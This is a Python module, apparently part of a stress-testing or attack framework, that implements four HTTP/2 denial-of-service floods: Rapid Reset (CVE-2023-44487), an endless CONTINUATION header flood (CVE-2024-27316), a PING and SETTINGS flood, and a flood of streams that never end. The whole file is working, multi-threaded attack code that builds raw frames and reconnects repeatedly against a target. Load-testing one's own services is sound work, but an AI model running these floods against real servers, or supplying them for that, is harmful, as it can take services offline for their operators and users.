"""Floods of HTTP/2 frames, written out: four of the ways in which a peer can ask for work and take none of the answer."""

import struct
import threading
import time

from attack import Attack

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RESET, SETTINGS, PING, CONTINUATION = 0, 1, 3, 4, 6, 9
END_STREAM, END_HEADERS = 1, 4
# HPACK, by its static table alone: GET, https, /, and an authority.
GET = b"\x82\x87\x84\x41\x05siege"
POST = b"\x83\x87\x84\x41\x05siege"


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def on_connections(front, chunk, clients=4):
    """Sends what `chunk` makes of the next stream number, until the service ends the connection; then on a new one."""

    def work(index):
        while not front.is_over:
            try:
                connection = front.target.connect(front.source(index), timeout=5, protocol="h2")
            except OSError as error:
                front.count(f"not opened ({type(error).__name__})")
                time.sleep(0.05)
                continue
            front.count("connections")
            try:
                if connection.selected_alpn_protocol() != "h2":
                    front.count("HTTP/2 was refused")
                    return
                connection.sendall(PREFACE + frame(SETTINGS, 0, 0))
                stream = 1
                while not front.is_over and stream < 1 << 30:
                    data, stream = chunk(stream)
                    connection.sendall(data)
                    front.count("bytes sent", len(data))
            except OSError:
                front.count("ended by the service")
                time.sleep(0.01)
            finally:
                connection.close()

    threads = [threading.Thread(target=work, args=(index,), daemon=True) for index in range(clients)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(max(0.1, front.deadline - time.monotonic()) + 6)


def rapid_reset(front):
    """Requests that are taken back at once (CVE-2023-44487)."""

    def chunk(stream):
        streams = range(stream, stream + 200, 2)
        ends = END_STREAM | END_HEADERS
        cancel = struct.pack(">I", 8)
        return b"".join(frame(HEADERS, ends, each, GET) + frame(RESET, 0, each, cancel) for each in streams), stream + 200

    on_connections(front, chunk)


def endless_head(front):
    """One head in frames without end (CVE-2024-27316)."""

    def chunk(stream):
        # A literal that is not indexed: name and value, 1,000 bytes.
        field = b"\x00\x01x\x7f\xe9\x06" + b"v" * 1_000
        return frame(HEADERS, 0, stream, GET) + frame(CONTINUATION, 0, stream, field) * 400, stream + 2

    on_connections(front, chunk)


def pings(front):
    """Pings and settings, each of which wants an answer that nobody reads (CVE-2019-9512, CVE-2019-9515)."""
    data = (frame(PING, 0, 0, b"assay---") + frame(SETTINGS, 0, 0)) * 500
    on_connections(front, lambda stream: (data, stream))


def open_streams(front):
    """Bodies on as many streams as a connection may have, none of which ends."""

    def chunk(stream):
        streams = range(stream, stream + 200, 2)
        head = b"".join(frame(HEADERS, END_HEADERS, each, POST) + frame(DATA, 0, each, b"x" * 500) for each in streams)
        return head, stream + 200

    on_connections(front, chunk)


HTTP2 = [
    Attack("HTTP/2: requests taken back at once", rapid_reset, tls=True),
    Attack("HTTP/2: a head without end", endless_head, tls=True),
    Attack("HTTP/2: pings and settings", pings, tls=True),
    Attack("HTTP/2: streams that never end", open_streams, tls=True),
]
